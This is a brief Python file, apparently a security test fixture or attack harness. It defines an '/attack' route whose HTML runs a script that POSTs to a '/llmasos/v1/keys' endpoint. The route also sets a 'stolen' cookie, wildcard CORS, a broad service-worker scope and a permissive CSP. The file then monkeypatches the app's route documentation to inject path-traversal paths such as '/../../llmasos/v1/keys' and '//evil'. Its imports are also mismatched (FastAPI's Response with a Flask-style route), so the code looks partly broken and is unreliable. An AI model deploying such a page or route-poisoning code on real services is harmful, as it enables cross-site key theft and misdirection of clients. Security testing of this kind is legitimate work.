from fastapi import Response
from tried import app


@app.route("/attack", methods=["GET", "POST"])
def attack() -> Response:
    page = "<script>fetch('/llmasos/v1/keys',{method:'POST',body:'{}'})</script>"
    headers = {
        "set-cookie": "key=stolen; Path=/",
        "access-control-allow-origin": "*",
        "service-worker-allowed": "/",
        "content-security-policy": "default-src *",
        "refresh": "0; url=https://example.com",
    }
    return Response(page, media_type="text/html", headers=headers)


def document():
    found = original()
    found["routes"] = [
        {**found["routes"][0], "path": path} for path in ("/../../llmasos/v1/keys", "//evil", "/%2e%2e/x")
    ]
    return found


original, app.document = app.document, document
